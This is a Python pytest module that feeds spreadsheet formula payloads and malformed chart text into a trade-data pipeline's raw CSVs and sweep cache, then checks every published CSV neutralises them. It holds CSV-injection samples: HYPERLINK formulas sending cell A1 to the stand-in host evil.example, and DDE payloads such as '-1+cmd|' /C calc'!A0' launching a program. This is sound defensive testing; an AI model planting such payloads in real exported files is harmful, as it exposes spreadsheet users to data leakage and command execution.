"""One build and one sweep of a project whose data are hostile (issue 22, items 1 and 4).

The raw data carry spreadsheet formulas where the trial found them (a source's title, a publisher, an
entity name (a cell of every processed table and of the data package), a description, an exchange-rate note) and
matplotlib mathtext in the publishers every chart's source note names (`People's Daily
$\\undefinedcmd{x}$ Online` made all three notebooks fail; `US$5 bn and US$6 bn` printed as
"US5*bnand*US6 bn").  A sweep with a formula as its grid title runs, an entry of its cache is edited
by hand to carry a carriage return and formulas, the sweep publishes again from the cache, and the
default edition is built (it lists the sweep in tables/editions.csv).  Then every CSV written is
scanned (`csvscan`): no cell or header starts a formula, no row is split.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

import csvscan

pytestmark = pytest.mark.slow

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ENTITY = '=HYPERLINK("http://evil.example/")'
PARTNER = "@SUM(1+1)"
BAD_MATH = "People's Daily $\\undefinedcmd{x}$ Online"
DOLLARS = "US$5 bn and US$6 bn"
GRID_TITLE = '=HYPERLINK("http://evil.example/grid")'


def _rewrite(path: Path, edit) -> None:
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    edit(rows[0], rows)
    with path.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh, lineterminator="\n").writerows(rows)


def hostile_raw(raw: Path) -> None:
    def sources(h, rows):
        publishers = {}
        for r in rows[1:]:
            publishers[r[h.index("publisher")]] = publishers.get(r[h.index("publisher")], 0) + 1
        second = sorted((n, p) for p, n in publishers.items() if p != "People's Daily Online")[-1][1]
        for r in rows[1:]:
            if r[h.index("publisher")] == "People's Daily Online":
                r[h.index("publisher")] = BAD_MATH
            elif r[h.index("publisher")] == second:
                r[h.index("publisher")] = DOLLARS
        rows[1][h.index("title")] = FORMULA
        rows[2][h.index("title")] = "+SUM(1)"
        rows[3][h.index("title")] = "-1+cmd|' /C calc'!A0"
        rows[4][h.index("title")] = "@cmd"

    def reports(h, rows):
        rows[1][h.index("description")] = FORMULA
        rows[2][h.index("description")] = "-2+3 looks like a formula"
        new = dict(zip(h, rows[1]))
        new.update({"row_id": "R9990", "entity": ENTITY, "flow": "total", "partner": PARTNER, "product": "all",
                    "segment": "all", "indicator": "trade value", "period_start": "2020-01", "period_end": "2020-12",
                    "period_kind": "year", "value": "1.5", "unit": "billion yuan", "qualifier": "exact",
                    "yoy_pct": "-3.5", "description": "-1+1", "check": "verified"})
        rows.append([new[c] for c in h])

    def rates(h, rows):
        rows[1][h.index("note")] = "+1 " + rows[1][h.index("note")]

    _rewrite(raw / "sources.csv", sources)
    _rewrite(raw / "reports.csv", reports)
    _rewrite(raw / "exchange_rates.csv", rates)


@pytest.fixture(scope="module")
def built(tmp_path_factory, warm_cache):
    from conftest import copy_project
    from xjtrade.pipeline import build
    from xjtrade.project import Project
    from xjtrade.report.params import load_params
    from xjtrade.sweep.runner import run_sweep
    project = Project(copy_project(tmp_path_factory.mktemp("hostile") / "project", warm=warm_cache))
    hostile_raw(project.raw)
    grid = project.root / "grid.yaml"
    grid.write_text(f"name: hostile\ntitle: '{GRID_TITLE}'\nbase: {{models: [naive, drift]}}\n"
                    "vary: {entity: [Xinjiang]}\n", encoding="utf-8")
    # (a scenario with an outlook: a sweep where nothing is estimable is not listed among the editions,
    # and its title would not reach tables/editions.csv)
    first = run_sweep(project, grid, serial=True, log=lambda m: None)
    # an entry of the sweep's cache edited by hand: text with formulas and a carriage return
    # (written back through the store, so that it passes the store's check and is used as it is)
    from xjtrade.cache import Store, SUFFIX
    store = Store(project.cache)
    [entry] = list((project.cache / "sweep").glob(f"*{SUFFIX}"))
    key = entry.name[: -len(SUFFIX)]
    data = store.get_json("sweep", key)
    for row in data["rows"]:
        row["reason"] = "ok\r=cmd|' /C calc'!A0"
        row["model"] = "@SUM(A1)"
    store.put_json("sweep", key, data)
    second = run_sweep(project, grid, serial=True, log=lambda m: None)
    report = build(project, load_params(project.params / "default.yaml"), engine="portable", log=lambda m: None)
    return project, report, first, second


def test_hostile_build_and_sweep_succeed(built):
    """All three notebooks ran with the mathtext publishers (they failed before)."""
    project, report, first, second = built
    assert report.ran[:1] == ["data"] and "render" in report.ran
    assert [r for r in report.ran if r.startswith("notebook")] == [
        "notebook 01-data.ipynb", "notebook 02-growth.ipynb", "notebook 03-forecast.ipynb"]
    assert (first.computed, first.failed) == (1, []) and (second.cached, second.computed) == (1, 0)


def test_every_published_csv_is_neutralised_and_unsplit(built):
    project, *_ = built
    files, found = csvscan.scan(project.root)
    rel = {f.relative_to(project.root).as_posix() for f in files}
    for expected in ("data/processed/figures.csv", "data/processed/sources.csv",
                     "reports/runs/default/data/figures.csv", "reports/default/site/data/figures.csv",
                     "reports/default/site/data/sources.csv", "reports/default/site/tables/editions.csv",
                     "reports/sweeps/hostile/results.csv", "reports/sweeps/hostile/failures.csv",
                     "reports/sweeps/hostile/tables/outlook.csv"):
        assert expected in rel, sorted(rel)
    assert len(files) >= 30, len(files)
    records = [list(csv.reader(open(f, newline="", encoding="utf-8"))) for f in files]
    cells = sum(len(r) for recs in records for r in recs)
    quoted = sum(1 for recs in records for r in recs for c in r if c[:1] == "'" and c[1:2] in tuple("=+-@\t\r"))
    print(f"scanned {len(files)} CSV files: {sum(len(r) - 1 for r in records)} rows, {cells} cells, {quoted} of them "
          f"neutralised, {len(found)} problems")
    assert found == [], "\n".join(found[:20])


def test_the_trials_cells_are_there_as_text(built):
    """The payloads reach the CSVs, neutralised (so the scan above is not empty-handed)."""
    project, *_ = built
    site = project.reports / "default" / "site"
    sources = pd.read_csv(site / "data" / "sources.csv", dtype=str, keep_default_na=False)
    assert "'" + FORMULA in set(sources["title"]) and "'@cmd" in set(sources["title"])
    figures = pd.read_csv(project.processed / "figures.csv", dtype=str, keep_default_na=False)
    assert "'" + ENTITY in set(figures["entity"]) and "'" + PARTNER in set(figures["partner"])
    editions = pd.read_csv(site / "tables" / "editions.csv", dtype=str, keep_default_na=False)
    assert "'" + GRID_TITLE in set(editions["title"])
    results = pd.read_csv(project.reports / "sweeps" / "hostile" / "results.csv", dtype=str, keep_default_na=False)
    assert set(results["reason"]) == {"ok\r=cmd|' /C calc'!A0"} and set(results["model"]) == {"'@SUM(A1)"}
    parquet = pd.read_parquet(project.reports / "sweeps" / "hostile" / "results.parquet")
    assert len(results) == len(parquet) and set(parquet["model"]) == {"@SUM(A1)"}


def test_source_notes_name_the_publishers_as_typed(built):
    """The charts were drawn with the publishers in their source notes (text kept literal)."""
    project, *_ = built
    run = project.runs / "default"
    notebooks = "".join((run / "notebooks" / n).read_text(encoding="utf-8") for n in
                        ("01-data.ipynb", "02-growth.ipynb", "03-forecast.ipynb"))
    assert "undefinedcmd" in notebooks and "US$5 bn and US$6 bn" in notebooks.replace("US\\\\$", "US$")
    assert list((run / "figures").glob("*.svg"))
